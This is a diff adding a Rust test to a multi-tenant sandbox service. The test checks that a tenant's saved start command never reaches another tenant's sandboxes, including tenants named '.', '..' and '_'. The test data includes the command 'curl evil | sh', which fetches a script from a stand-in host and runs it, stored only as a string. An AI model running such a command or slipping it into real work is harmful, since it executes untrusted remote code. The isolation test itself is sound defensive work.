@@ -446,3 +446,49 @@ fn an_upload_that_inflates_past_the_limit_is_cut() {
         "{e}"
     );
 }
+
+#[test]
+fn a_templates_start_commands_belong_to_the_tenant_that_built_it() {
+    // A build with no steps yields its base image, which other tenants use too:
+    // one tenant's start command must never start in another's sandboxes.
+    let path = std::env::temp_dir().join(format!("sandlot-start-cmd-test-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&path);
+    std::fs::create_dir_all(&path).unwrap();
+    struct Dir(std::path::PathBuf);
+    impl Drop for Dir {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+    impl Dir {
+        fn path(&self) -> &std::path::Path {
+            &self.0
+        }
+    }
+    let dir = Dir(path);
+    let img: sandlot_store::Digest = format!("sha256:{}", "ab".repeat(32)).parse().unwrap();
+    let image = img.to_string();
+    let cmd = |s: &str| StartCmd {
+        start: Some(s.into()),
+        ready: None,
+    };
+    save_start(dir.path(), "bob", &img, &cmd("curl evil | sh")).unwrap();
+    assert_eq!(read_start(dir.path(), "alice", &image), None);
+    assert_eq!(
+        read_start(dir.path(), "bob", &image),
+        Some(cmd("curl evil | sh"))
+    );
+    // Tenants whose names a directory mapping could merge stay apart.
+    save_start(dir.path(), ".", &img, &cmd("dot")).unwrap();
+    assert_eq!(read_start(dir.path(), "_", &image), None);
+    assert_eq!(read_start(dir.path(), "..", &image), None);
+    assert_eq!(read_start(dir.path(), ".", &image), Some(cmd("dot")));
+    // A tenant's build without start commands removes its own, no one else's.
+    save_start(dir.path(), "alice", &img, &cmd("mine")).unwrap();
+    save_start(dir.path(), "alice", &img, &StartCmd::default()).unwrap();
+    assert_eq!(read_start(dir.path(), "alice", &image), None);
+    assert_eq!(
+        read_start(dir.path(), "bob", &image),
+        Some(cmd("curl evil | sh"))
+    );
+}
